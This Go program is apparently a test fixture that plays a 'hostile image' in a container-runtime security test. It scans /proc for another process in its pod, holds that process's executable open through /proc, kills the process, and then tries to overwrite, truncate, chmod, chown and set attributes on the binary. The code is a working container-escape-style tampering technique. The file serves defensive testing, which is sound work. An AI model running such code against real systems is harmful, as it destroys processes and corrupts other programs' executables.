//go:build linux

// Overwrite is a program of a hostile image. It waits for another process of its pot that
// runs from a file it can reach through /proc and that is not one of its arguments, keeps
// hold of that file, ends the process, and tries to change the file. It prints what became
// of each attempt.
package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"syscall"
	"time"
)

func main() {
	fmt.Println("ready")
	pid, fd := find()
	fmt.Println("found", pid)
	for syscall.Kill(pid, syscall.SIGKILL) == nil && runs(pid) {
		runtime.Gosched()
	}
	path := fmt.Sprintf("/proc/self/fd/%d", fd)
	fmt.Println("write:", write(path))
	fmt.Println("truncate:", syscall.Truncate(path, 0))
	fmt.Println("chmod:", syscall.Chmod(path, 0o666))
	fmt.Println("chown:", syscall.Chown(path, 12345, 12345))
	fmt.Println("utimes:", syscall.Utimes(path, make([]syscall.Timeval, 2)))
	fmt.Println("setxattr:", syscall.Setxattr(path, "user.overwritten", []byte("x"), 0))
	fmt.Println("done")
}

// find returns a process with another file than this one's and those known, and the file.
func find() (pid, fd int) {
	var known []os.FileInfo
	for _, path := range append(os.Args[1:], "/proc/self/exe") {
		info, err := os.Stat(path)
		if err != nil {
			panic(err)
		}
		known = append(known, info)
	}
	for {
		all, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range all {
			const oPath = 0o10000000
			fd, err := syscall.Open(dir+"/exe", oPath, 0)
			if err != nil {
				continue
			}
			theirs, err := os.Stat(fmt.Sprintf("/proc/self/fd/%d", fd))
			is := func(it os.FileInfo) bool { return os.SameFile(it, theirs) }
			if err == nil && !slices.ContainsFunc(known, is) {
				pid, _ := strconv.Atoi(filepath.Base(dir))
				return pid, fd
			}
			syscall.Close(fd)
		}
	}
}

// runs reports whether the process has not ended.
func runs(pid int) bool {
	_, err := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
	return err == nil
}

// write waits a while for others that run from the file.
func write(path string) error {
	for end := time.Now().Add(5 * time.Second); ; runtime.Gosched() {
		f, err := os.OpenFile(path, os.O_WRONLY, 0)
		if errors.Is(err, syscall.ETXTBSY) && time.Now().Before(end) {
			continue
		}
		if err != nil {
			return errors.Unwrap(err)
		}
		defer f.Close()
		if _, err := f.WriteString("overwritten"); err != nil {
			return errors.Unwrap(err)
		}
		return nil
	}
}
